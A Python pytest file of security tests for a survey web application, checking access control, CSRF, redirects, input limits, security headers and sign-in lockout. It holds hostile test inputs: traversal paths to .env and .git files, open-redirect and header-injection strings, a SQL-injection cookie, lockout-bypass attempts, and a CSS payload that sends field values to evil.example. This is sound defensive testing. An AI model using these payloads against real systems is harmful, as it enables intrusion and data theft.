"""Requests that no page of ours makes: from elsewhere, too large, too many, as somebody else."""

import re
import statistics
import time

import pytest
from litestar import Litestar
from litestar.routes import HTTPRoute

from tests import given
from voice.answering.guesses_store import FROM_ONE_PLACE
from voice.staff.entry_pages import inside

ROLES = ("reviewer", "officer", "safeguarding_lead", "administrator")
EASY = "/surveys/support-easy-read"
NO_RESPONSE = "00000000-0000-4000-8000-000000000000"
GUESSED = [
    "/admin",
    "/administrator",
    "/login",
    "/wp-admin",
    "/api",
    "/schema",
    "/docs",
    "/metrics",
    "/openapi.json",
    "/.env",
    "/.git/config",
    "/static/../settings.py",
    "/static/..%2f..%2fapp.py",
]
AWAY = (
    "https://evil.example",
    "//evil.example",
    "/\\evil.example",
    "/staff//evil.example",
    "/staff/../..//evil.example",
    "/staff@evil.example",
    "/staff\r\nx: y",
    "javascript:alert(1)",
    "/staff?next=https://evil.example",
    "\t//evil.example",
    "/staff/%0d%0aset-cookie:a=b",
)


def methods(route: HTTPRoute) -> set[str]:
    """The methods that an address answers to."""
    return {method for handler in route.route_handlers for method in handler.http_methods}


def routes(app: Litestar, method: str) -> list[str]:
    """Every address that answers to a method, its parts filled in with something."""
    found = []
    for route in app.routes:
        if isinstance(route, HTTPRoute) and method in methods(route):
            path = re.sub(r"\{\w+:uuid\}", NO_RESPONSE, route.path)
            path = re.sub(r"\{\w+:int\}", "1", path)
            path = re.sub(r"\{survey_id(:\w+)?\}", "support-easy-read", path)
            found.append(re.sub(r"\{[^}]+\}", "one_change", path))
    return sorted(set(found))


async def test_every_page_of_staff_asks_who_it_is(client, app, db):
    open_to_all = {"/staff/sign-in", "/staff/sign-in/away", "/staff/sign-in/back"}
    for method in ("GET", "POST"):
        pages = [path for path in routes(app, method) if path.startswith("/staff")]
        assert len(pages) > 10
        for path in pages:
            if path in open_to_all or path.startswith("/staff/invited"):
                continue
            answer = await client.request(method, path, follow_redirects=False)
            signs_in = answer.headers.get("location", "").startswith("/staff/sign-in")
            assert signs_in or answer.status_code == 403, f"{method} {path}: {answer.status_code}"


@pytest.mark.parametrize("path", GUESSED)
async def test_nothing_is_at_an_address_that_one_might_guess(client, path):
    assert (await client.get(path)).status_code in (400, 404)


@pytest.mark.parametrize("role", ROLES)
async def test_no_role_reaches_what_is_of_another_by_any_address(client, app, db, role):
    """Each handler names its task; the answer of every route must agree with the role's tasks."""
    await given.staff(client, db, role)
    person_may = {
        "reviewer": {"see", "review"},
        "officer": {"see", "pledge", "enter", "invite", "author"},
        "safeguarding_lead": {"safeguard", "rota"},
        "administrator": {
            *("see", "review", "pledge", "enter", "invite", "author", "rota", "administer"),
        },
    }[role]
    for route in app.routes:
        if not isinstance(route, HTTPRoute):
            continue
        for handler in route.route_handlers:
            task = handler.opt.get("task")
            if task in (None, "anybody signed in") or "GET" not in handler.http_methods:
                continue
            path = re.sub(r"\{\w+:uuid\}", NO_RESPONSE, route.path)
            path = re.sub(r"\{\w+:int\}", "1", path)
            path = re.sub(r"\{survey_id(:\w+)?\}", "support-easy-read", path)
            path = re.sub(r"\{asked_of(:\w+)?\}", "support-easy-read", path)
            answer = await client.get(re.sub(r"\{[^}]+\}", "one_change", path))
            assert (answer.status_code == 403) == (task not in person_may), f"{role} {path}"


async def test_nobody_answers_for_somebody_else_by_an_id(client, db):
    """No address of a respondent holds an id: whose answers they are, only the cookie says."""
    await client.post(f"{EASY}/start", data={"assent": "yes"})
    await client.post(f"{EASY}/pages/one_change", data={"one_change": "mine"})
    client.cookies.clear()
    for page in ("pages/one_change", "check", "thank-you", "send"):
        answer = await client.get(f"{EASY}/{page}")
        assert "mine" not in answer.text


@pytest.mark.parametrize("cookie", ["0", "' or 1=1 --", "\x00", "a" * 4000, "../..", "%00"])
async def test_a_made_up_cookie_is_nobody(client, db, cookie):
    await given.answer(db, await given.response(db), "theirs")
    client.cookies.set("voice_answers", cookie.replace("\x00", "%00"), path=EASY)
    client.cookies.set("voice_staff", cookie.replace("\x00", "%00"), path="/staff")
    assert "theirs" not in (await client.get(f"{EASY}/pages/one_change")).text
    sent = await client.get("/staff/questions", follow_redirects=False)
    assert sent.status_code in (303, 401)


@pytest.mark.parametrize(
    "headers",
    [
        {"sec-fetch-site": "cross-site"},
        {"sec-fetch-site": "same-site"},
        {"origin": "https://evil.example"},
        {"origin": "null"},
    ],
)
async def test_no_other_site_sends_a_form_of_ours(client, app, db, headers):
    for path in routes(app, "POST"):
        answer = await client.post(path, headers=headers, data={"x": "y"}, follow_redirects=False)
        assert answer.status_code == 403, f"{path}: {answer.status_code}"


async def test_no_form_of_staff_goes_without_its_token(client, app, db):
    await given.staff(client, db, "administrator")
    for path in routes(app, "POST"):
        if path.startswith("/staff"):
            answer = await client.post(path, data={"x": "y"}, follow_redirects=False)
            assert answer.status_code == 403, f"{path}: {answer.status_code}"


@pytest.mark.parametrize("away", AWAY)
def test_nobody_is_sent_away_after_signing_in(away):
    found = inside(away)
    assert found.startswith("/staff")
    assert "evil" not in found.partition("?")[0]
    assert not re.search(r"[\r\n\t\\]|//", found)


async def test_what_is_too_large_is_refused_and_not_kept(client, db):
    await client.post(f"{EASY}/start", data={"assent": "yes"})
    page = f"{EASY}/pages/one_change"
    answer = await client.post(page, data={"one_change": "a" * 10_000_000})
    assert answer.status_code == 413
    longest = await client.post(page, data={"one_change": "b" * 900_000})
    assert longest.status_code == 422
    many = await client.post(page, data={f"f{n}": "x" for n in range(50_000)})
    assert many.status_code < 500
    assert await db.fetchval("select count(*) from answers where sealed is not null") == 0


async def test_what_is_no_form_is_refused_in_a_sentence(client):
    await client.post(f"{EASY}/start", data={"assent": "yes"})
    page = f"{EASY}/pages/one_change"
    for content, kind in (
        (b"\xff\xfe\x00", "application/x-www-form-urlencoded"),
        (b"--x\r\nbroken", "multipart/form-data; boundary=x"),
        (b"--x\r\nbroken", "multipart/form-data"),
        (b"{", "application/json"),
        (b"<a/>", "text/xml"),
        (b"a=%zz&b=%", "application/x-www-form-urlencoded"),
    ):
        answer = await client.post(page, content=content, headers={"content-type": kind})
        assert answer.status_code < 500, kind
        assert "Traceback" not in answer.text


async def test_the_policy_lets_nothing_in_from_outside(client):
    for page in ("/", EASY, "/staff/sign-in", "/you-said", "/nowhere"):
        headers = (await client.get(page)).headers
        policy = dict(
            (part.split()[0], part.split()[1:])
            for part in headers["content-security-policy"].split(";")
            if part.strip()
        )
        assert policy["default-src"] == ["'self'"]
        assert policy["base-uri"] == ["'none'"]
        assert policy["object-src"] == ["'none'"]
        assert policy["form-action"] == ["'self'"]
        assert policy["frame-ancestors"] == ["'none'"]
        assert policy["require-trusted-types-for"] == ["'script'"]
        assert "unsafe" not in headers["content-security-policy"]
        assert "http" not in headers["content-security-policy"]
        assert "*" not in headers["content-security-policy"]
        assert headers["cache-control"] == "no-store"
        assert headers["referrer-policy"] == "no-referrer"
        assert headers["x-content-type-options"] == "nosniff"


async def test_over_https_browsers_are_told_to_use_nothing_else(client, app):
    from msgspec import structs

    assert "strict-transport-security" not in (await client.get("/")).headers
    before = app.state.settings
    app.state.settings = structs.replace(before, public_url="https://voice.example")
    try:
        assert "max-age=31536000" in (await client.get("/")).headers["strict-transport-security"]
    finally:
        app.state.settings = before


async def test_a_style_in_words_is_no_style(client, db):
    """Without it, a quote could paint over a page, or read it letter by letter."""
    await client.post(f"{EASY}/start", data={"assent": "yes"})
    words = (
        '"><style>input[value^="a"]{background:url(//evil.example/a)}</style><p style="color:red'
    )
    await client.post(f"{EASY}/pages/one_change", data={"one_change": words})
    html = (await client.get(f"{EASY}/pages/one_change")).text
    assert "<style" not in html
    assert 'style="' not in html.replace("&#34;", "")


async def sign_in(client, token, email, password):
    data = {"email": email, "password": password, "_csrf_token": token}
    return await client.post("/staff/sign-in", data=data, follow_redirects=False)


async def test_who_has_an_account_shows_neither_in_words_nor_in_time(client, db):
    """By turns, so that a busy machine slows both; benchmarks/signing_in.py measures how far."""
    await given.person(db, "reviewer", email="known@example.org")
    token = await given.token(client, "/staff/sign-in")
    took: dict[str, list[float]] = {"known": [], "unknown": []}
    words = {}
    for number in range(25):
        for who in took:
            await db.execute("delete from tries")
            started = time.perf_counter()
            answer = await sign_in(client, token, f"{who}@example.org", f"wrong {number}")
            took[who].append(time.perf_counter() - started)
            words[who] = answer.text.replace(who, "x")
    assert words["known"] == words["unknown"]
    known, unknown = (statistics.median(took[who]) for who in ("known", "unknown"))
    assert abs(known - unknown) / unknown < 0.25


@pytest.mark.parametrize(
    "way",
    ["plain", "capitals", "spaces", "full width", "another address", "forwarded", "no cookies"],
)
async def test_a_lock_is_not_got_round(client, db, way):
    await given.person(db, "reviewer")
    for _ in range(5):
        token = await given.token(client, "/staff/sign-in")
        await sign_in(client, token, "reviewer@example.org", "wrong")
    email = {
        "capitals": "REVIEWER@Example.ORG",
        "spaces": "  reviewer@example.org ",
        "full width": "ｒeviewer@example.org",
    }.get(way, "reviewer@example.org")
    if way in ("another address", "no cookies"):
        client.cookies.clear()
    if way == "forwarded":
        client.headers["x-forwarded-for"] = "203.0.113.9"
    token = await given.token(client, "/staff/sign-in")
    assert (await sign_in(client, token, email, given.PASSWORD)).status_code == 422
    client.headers.pop("x-forwarded-for", None)


async def test_many_at_once_get_no_more_tries_than_one_after_the_other(client, db):
    import asyncio

    await given.person(db, "reviewer")
    token = await given.token(client, "/staff/sign-in")
    await asyncio.gather(
        *(sign_in(client, token, "reviewer@example.org", f"wrong {n}") for n in range(12))
    )
    assert (await sign_in(client, token, "reviewer@example.org", given.PASSWORD)).status_code == 422


async def test_from_one_place_not_every_account_can_be_tried(client, db):
    await given.person(db, "reviewer")
    token = await given.token(client, "/staff/sign-in")
    await db.execute(
        "insert into tries (what, who) select 'sign in', who from"
        " (select $1::bytea as who) x, generate_series(1, 30)",
        await _place(client, db, token),
    )
    answer = await sign_in(client, token, "reviewer@example.org", given.PASSWORD)
    assert answer.status_code == 422


async def _place(client, db, token):
    """What this client is known by."""
    await sign_in(client, token, "nobody@example.org", "wrong")
    found = await db.fetchval("select who from tries where what = 'sign in'")
    await db.execute("delete from tries")
    return found


async def test_three_words_cannot_be_tried_without_end(client, db):
    for _ in range(FROM_ONE_PLACE.most):
        await client.post("/withdraw", data={"code": "not these words"})
    assert (await client.post("/withdraw", data={"code": "not these words"})).status_code == 429
    assert (await client.post("/come-back", data={"code": "not these words"})).status_code == 429
